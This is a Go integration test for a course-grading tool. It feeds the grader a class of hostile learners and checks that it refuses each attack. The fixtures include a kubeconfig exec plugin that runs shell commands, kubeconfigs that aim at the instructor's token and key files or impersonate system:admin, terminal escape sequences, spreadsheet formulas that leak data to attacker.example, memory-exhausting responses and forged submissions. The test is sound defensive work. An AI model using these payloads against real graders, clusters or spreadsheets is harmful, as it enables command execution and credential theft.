package hostile

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/labhub/cnpa/internal/class"
	"github.com/labhub/cnpa/internal/judge"
	"github.com/labhub/cnpa/internal/submission"
	"github.com/labhub/cnpa/test/kit"
	"github.com/labhub/cnpa/test/kit/classfixture"
)

// cnpaBin is the cnpa binary the tests run as the instructor does
// (kit.RunWithCnpa: $CNPA_BIN, or a build).
var cnpaBin string

func TestMain(m *testing.M) { kit.RunWithCnpa(m, &cnpaBin) }

// maxRSS is the most memory a run of `cnpa class grade` may hold,
// whatever the class sends (issue 40's "done when").
const maxRSS = 200 << 20

// run is one run of the cnpa binary: its output and its peak memory.
type run struct {
	stdout, stderr string
	code           int
	maxRSS         int64 // bytes
	took           time.Duration
}

// cnpa runs the cnpa binary with args and env added to the test's own,
// within a few minutes.
func cnpa(t *testing.T, env []string, args ...string) run {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 4*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, cnpaBin, args...)
	cmd.Env = append(os.Environ(), env...)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	start := time.Now()
	err := cmd.Run()
	r := run{stdout: stdout.String(), stderr: stderr.String(), took: time.Since(start)}
	if cmd.ProcessState == nil {
		t.Fatalf("cnpa %s: %v", strings.Join(args, " "), err)
	}
	r.code = cmd.ProcessState.ExitCode()
	if ru, ok := cmd.ProcessState.SysUsage().(*syscall.Rusage); ok {
		r.maxRSS = ru.Maxrss << 10 // KiB on Linux
	}
	return r
}

// controlChar is the first control character in s (C0 but newline, DEL,
// C1), and where, or -1.
func controlChar(s string) (rune, int) {
	for i, r := range s {
		if r < 0x20 && r != '\n' || r == 0x7f || r >= 0x80 && r < 0xa0 {
			return r, i
		}
	}
	return 0, -1
}

// TestHostileClass is issue 40's "done when": `cnpa class grade --live`,
// the built binary as an instructor runs it, of one class that holds
// every hostile learner of this package beside honest ones. It runs no
// command (the exec plugin's marker never appears), sends no local file
// (the instructor's secret never reaches a learner's server, as a token,
// a client certificate or anything else; the proxy is never dialled),
// stays under 200 MiB RSS, prints no control character, writes no
// formula into the CSV, grades every learner whose live grading failed
// 0 (unverified), names no copier from what learners claim, and grades
// the honest learners (offline, from test/kit/classfixture) exactly as
// alone: only gina, whom a framer copies, gains shares-uids-with.
func TestHostileClass(t *testing.T) {
	dir := t.TempDir()
	subsDir := filepath.Join(dir, "subs")
	os.Mkdir(subsDir, 0o755)
	write := func(file string, c *submission.Content) {
		t.Helper()
		if err := submission.Write(filepath.Join(subsDir, file), c); err != nil {
			t.Fatal(err)
		}
	}
	good := func(name string, i int) *submission.Content {
		t.Helper()
		c, err := classfixture.Good(name, i)
		if err != nil {
			t.Fatal(err)
		}
		return c
	}

	// The honest learners: two correct labs and one classic mistake.
	ada, gina, bob := good("ada", 1), good("gina", 2), good("bob", 3)
	bob.Evidence["drift.json"] = strings.Replace(bob.Evidence["drift.json"], `"reverted_to": 6`, `"reverted_to": 7`, 1)
	if err := classfixture.Record(bob); err != nil {
		t.Fatal(err)
	}
	honest := []string{"ada", "bob", "gina"}
	for _, c := range []*submission.Content{ada, gina, bob} {
		write(c.Learner+".json", c)
	}

	// The learners' servers. Each logs every request and its client
	// certificate; a proxy that must never be dialled.
	const escapes = "\x1b]0;OWNED\x07\x1b[2J\x1b[H all graded, 0 flagged"
	failing := newServer(t, nil) // 500 on everything: a cluster that fails on purpose
	failing.message = escapes
	versionOK := func(w http.ResponseWriter) { fmt.Fprint(w, `{"major":"1","minor":"37","gitVersion":"v1.37.2"}`) }
	escaping := newServer(t, versionOK) // answers /version, then 500s with terminal escapes
	escaping.message = escapes
	hoarder := newServer(t, func(w http.ResponseWriter) {
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"gitVersion":"`)
		chunk := []byte(strings.Repeat("a", 64<<10))
		for n := 0; n < 1<<30; n += len(chunk) {
			if _, err := w.Write(chunk); err != nil {
				return // the grader hung up
			}
		}
		fmt.Fprint(w, `"}`)
	})
	proxy, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { proxy.Close() })
	var dialled atomic.Int32
	go func() {
		for {
			c, err := proxy.Accept()
			if err != nil {
				return
			}
			dialled.Add(1)
			c.Close()
		}
	}()

	// The instructor's own files, which a kubeconfig names.
	const secretText = "s.3cr3t-of-the-instructor"
	secret := filepath.Join(dir, "vault-token")
	os.WriteFile(secret, []byte(secretText+"\n"), 0o600)
	cert := filepath.Join(dir, "admin.crt")
	os.WriteFile(cert, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: failing.Certificate().Raw}), 0o600)
	pwned := filepath.Join(dir, "pwned")
	execUser := fmt.Sprintf(`exec:
  apiVersion: client.authentication.k8s.io/v1
  interactiveMode: Never
  command: sh
  args: [-c, 'id > %s; echo "{\"apiVersion\":\"client.authentication.k8s.io/v1\",\"kind\":\"ExecCredential\",\"status\":{\"token\":\"t\"}}"']`, pwned)

	// The hostile learners, each with a submission of their own (forged
	// where it says) and a kubeconfig in the class file.
	classYAML := "learners:\n"
	n := 10
	hostile := func(name string, c *submission.Content, s *server, cluster, user string) {
		t.Helper()
		if c == nil {
			n++
			c = good(name, n)
		}
		file := fmt.Sprintf("h%d.json", n)
		write(file, c)
		kc := kubeconfig(t, dir, fmt.Sprintf("h%d", n), s, cluster, user)
		q, _ := json.Marshal(name)
		classYAML += fmt.Sprintf("- {name: %s, kubeconfig: %s}\n", q, kc)
	}
	// N1: commands.
	hostile("mallory", nil, failing, "", execUser)
	hostile("trent", nil, failing, "", "auth-provider: {name: oidc, config: {id-token: x}}")
	// N2: local files, a proxy, another user.
	hostile("tf", nil, failing, "", "tokenFile: "+secret)
	hostile("ca", nil, failing, "certificate-authority: "+cert, "token: x")
	hostile("cc", nil, failing, "", "client-certificate: "+cert+"\nclient-key: "+secret)
	hostile("px", nil, failing, "proxy-url: http://"+proxy.Addr().String(), "token: x")
	hostile("as", nil, failing, "", "token: x\nas: system:admin\nas-groups: [system:masters]")
	// N3: an endless /version.
	hostile("hoarder", nil, hoarder, "", "token: t")
	// N4, N5: a server's message with escapes; names a spreadsheet takes
	// for formulas.
	hostile("erin", nil, escaping, "", "token: t")
	hostile("@SUM(A1)", nil, escaping, "", "token: t")
	hostile(`=HYPERLINK("https://attacker.example/?leak="&A3&B3,"x")`, nil, escaping, "", "token: t")
	// N6: 300 invented passing checks; every uid of ada's file rewritten
	// (consistent, 8/8 offline); both on a server that fails.
	n++
	inventor := good("inventor", n)
	for i := range 300 {
		inventor.Checks = append(inventor.Checks, judge.Check{ID: fmt.Sprintf("extra.%d", i), Step: 1 + i%8, Status: judge.Pass})
	}
	inventor.Passed += 300
	hostile("inventor", inventor, failing, "", "token: t")
	n++
	hostile("rewriter", rewriteUIDs(t, ada, "rewriter", 1, n), failing, "", "token: t")
	// N7: gina's alpha uid in the framer's evidence and facts.
	n++
	framer := good("framer", n)
	ginaAlpha, framerAlpha := string(gina.Facts.Alpha.UID), string(framer.Facts.Alpha.UID)
	for f, text := range framer.Evidence {
		framer.Evidence[f] = strings.ReplaceAll(text, framerAlpha, ginaAlpha)
	}
	framer.Facts.Alpha.UID = gina.Facts.Alpha.UID
	for i := range framer.Facts.TeamAlpha.OwnerReferences {
		framer.Facts.TeamAlpha.OwnerReferences[i].UID = gina.Facts.Alpha.UID
	}
	if err := classfixture.Record(framer); err != nil {
		t.Fatal(err)
	}
	hostile("framer", framer, failing, "", "token: t")
	// N11: a timeline named ".."; two files claiming one learner.
	n++
	dot := good("dot", n)
	dot.Timelines[".."] = "{}"
	hostile("dot", dot, failing, "", "token: t")
	hostile("vic", nil, failing, "", "token: t")
	n++
	write("zz-vic.json", good("vic", n))
	// Submissions only (their files are unreadable rows; the class file
	// is the instructor's and never names them): a name with terminal
	// escapes, a kube_system_uid that is a formula, 256 MiB.
	n++
	write("carol.json", good("carol"+escapes, n))
	n++
	frank := good("frank", n)
	frank.Cluster.KubeSystemUID = `=HYPERLINK("https://attacker.example/?leak="&A3&B3,"uid")`
	write("frank.json", frank)
	if f, err := os.Create(filepath.Join(subsDir, "huge.json")); err == nil {
		f.Truncate(256 << 20) // sparse: costs no disk
		f.Close()
	}
	os.WriteFile(filepath.Join(subsDir, "notes.json"), []byte(`{"hello": "`+escapes+`"}`), 0o644)
	classFile := filepath.Join(dir, "class.yaml")
	if err := os.WriteFile(classFile, []byte(classYAML), 0o644); err != nil {
		t.Fatal(err)
	}

	// Every learner's environment proxy points at the listener too.
	env := []string{"HTTPS_PROXY=http://" + proxy.Addr().String(), "HTTP_PROXY=http://" + proxy.Addr().String(), "NO_PROXY="}
	grade := func(output string) run {
		t.Helper()
		r := cnpa(t, env, "--no-color", "-o", output, "class", "grade", "--live", classFile, "--parallel", "4",
			"--timeout", "1m", "--probe-timeout", "5s", subsDir)
		if r.code != 0 {
			t.Fatalf("cnpa -o %s class grade --live: exit %d\n%s", output, r.code, r.stderr)
		}
		t.Logf("-o %s: %s, max RSS %d MiB", output, r.took.Round(time.Millisecond), r.maxRSS>>20)
		if r.maxRSS > maxRSS {
			t.Errorf("-o %s: the grader held %d MiB at its peak, more than %d MiB", output, r.maxRSS>>20, maxRSS>>20)
		}
		for what, out := range map[string]string{"stdout": r.stdout, "stderr": r.stderr} {
			if c, i := controlChar(out); i >= 0 {
				t.Errorf("-o %s: %s holds the control character %U at %d: ...%q...", output, what, c, i, out[max(0, i-60):min(len(out), i+60)])
			}
		}
		return r
	}
	text, sheet, doc := grade("text"), grade("csv"), grade("json")
	if testing.Verbose() {
		t.Logf("the text gradebook:\n%s\n%s", text.stderr, text.stdout)
	}

	// No command, no local file, no proxy.
	if data, err := os.ReadFile(pwned); err == nil {
		t.Errorf("a learner's exec plugin ran on the grader's machine: %s holds %q", pwned, data)
	}
	for _, s := range []*server{failing, escaping, hoarder} {
		for _, req := range s.requests() {
			if strings.Contains(req, "3cr3t") || strings.Contains(req, "Bearer x") {
				t.Errorf("a refused kubeconfig's credential reached a learner's server: %q", req)
			}
		}
	}
	for _, s := range []*server{failing, escaping, hoarder} {
		if n := s.clientCerts(); n > 0 {
			t.Errorf("a learner's server was sent %d client certificates: the instructor's own", n)
		}
	}
	if n := dialled.Load(); n > 0 {
		t.Errorf("the grader dialled the proxy %d times", n)
	}
	if !strings.Contains(text.stdout+text.stderr, `\x1b]0;OWNED`) {
		t.Errorf("the servers' messages are not shown escaped:\n%s\n%s", text.stderr, text.stdout)
	}

	// No formula in the CSV.
	rows, err := csv.NewReader(strings.NewReader(sheet.stdout)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a CSV cell a spreadsheet takes for a formula: %q", cell)
			}
		}
	}

	// The rows.
	var gb class.Gradebook
	if err := json.Unmarshal([]byte(doc.stdout), &gb); err != nil {
		t.Fatalf("-o json: %v", err)
	}
	rowsOf := map[string][]*class.Learner{}
	for _, l := range gb.Learners {
		rowsOf[l.Name] = append(rowsOf[l.Name], l)
	}
	flagged := func(name string, kinds ...string) {
		t.Helper()
		ls := rowsOf[name]
		if len(ls) == 0 {
			t.Errorf("%q has no row", name)
		}
		for _, l := range ls {
			list := l.FlagList()
			for _, k := range kinds {
				if !strings.Contains(list, k) {
					t.Errorf("%q: flags %q, want %s", name, list, k)
				}
			}
			if strings.Contains(list, class.FlagCopiedFrom) || strings.Contains(list, class.FlagCopiedBy) {
				t.Errorf("%q: flags %q: a copier named from what learners claim", name, list)
			}
			if l.Graded != class.GradedUnreadable && l.Graded != class.GradedLive && (l.StepsPassed != 0 || l.ChecksPassed != 0) {
				t.Errorf("%q, graded %s: credited %d steps, %d checks, want 0 (unverified)", name, l.Graded, l.StepsPassed, l.ChecksPassed)
			}
		}
	}
	for _, name := range []string{"mallory", "trent", "tf", "ca", "cc", "px", "as", "hoarder", "erin", "@SUM(A1)", "rewriter"} {
		flagged(name, class.FlagUnverified)
	}
	for name, says := range map[string]string{"hoarder": "8 MiB", "erin": "OWNED", "mallory": "exec is refused", "tf": "tokenFile is refused", "px": "proxy-url is refused"} {
		if ls := rowsOf[name]; len(ls) != 1 || !strings.Contains(ls[0].GradedDetail, says) {
			t.Errorf("%s: graded detail %q, want it to say %q", name, ls[0].GradedDetail, says)
		}
	}
	flagged("inventor", class.FlagUnverified, class.FlagTampered)
	flagged("framer", class.FlagUnverified, class.FlagSharesUIDs+":gina")
	flagged("dot", class.FlagUnverified, class.FlagTampered)
	flagged("vic", class.FlagUnverified, class.FlagDuplicate)
	if len(rowsOf["vic"]) != 2 {
		t.Errorf("vic, claimed by two files: got %d rows, want 2", len(rowsOf["vic"]))
	}
	for _, file := range []string{"carol.json", "frank.json", "huge.json", "notes.json"} {
		flagged(file, class.FlagUnreadable)
	}

	// The honest learners, exactly as alone.
	var files []string
	for _, name := range honest {
		files = append(files, filepath.Join(subsDir, name+".json"))
	}
	aloneRun := cnpa(t, nil, append([]string{"--no-color", "-o", "json", "class", "grade"}, files...)...)
	var alone class.Gradebook
	if err := json.Unmarshal([]byte(aloneRun.stdout), &alone); aloneRun.code != 0 || err != nil {
		t.Fatalf("the honest learners alone: exit %d, %v\n%s", aloneRun.code, err, aloneRun.stderr)
	}
	for _, want := range alone.Learners {
		got := rowsOf[want.Name]
		if len(got) != 1 {
			t.Errorf("%s: %d rows in the class, want 1", want.Name, len(got))
			continue
		}
		g := *got[0]
		if want.Name == "gina" {
			// The framer holds her alpha uid: she shares it, and is no copier.
			if w := strings.TrimPrefix(want.FlagList()+"; ", "; ") + class.FlagSharesUIDs + ":framer"; g.FlagList() != w {
				t.Errorf("gina, framed: flags %q, want %q: hers alone and %s:framer", g.FlagList(), w, class.FlagSharesUIDs)
			}
			g.Flags = want.Flags
		}
		if !reflect.DeepEqual(&g, want) {
			a, _ := json.Marshal(want)
			b, _ := json.Marshal(&g)
			t.Errorf("%s in the hostile class is not graded as alone:\nalone: %s\nclass: %s", want.Name, a, b)
		}
	}
}

// rewriteUIDs is c with every uid of learner from (classfixture's
// numbering) made learner to's, under name, re-recorded and re-hashed as
// anyone can: a copy consistent with itself, which offline grading cannot
// tell from work done.
func rewriteUIDs(t *testing.T, c *submission.Content, name string, from, to int) *submission.Content {
	t.Helper()
	data, err := json.Marshal(c)
	if err != nil {
		t.Fatal(err)
	}
	data = bytes.ReplaceAll(data, []byte(fmt.Sprintf("%08x-0000-4000-8000-", from)), []byte(fmt.Sprintf("%08x-0000-4000-8000-", to)))
	var out submission.Content
	if err := json.Unmarshal(data, &out); err != nil {
		t.Fatal(err)
	}
	out.Learner = name
	if err := classfixture.Record(&out); err != nil {
		t.Fatal(err)
	}
	return &out
}
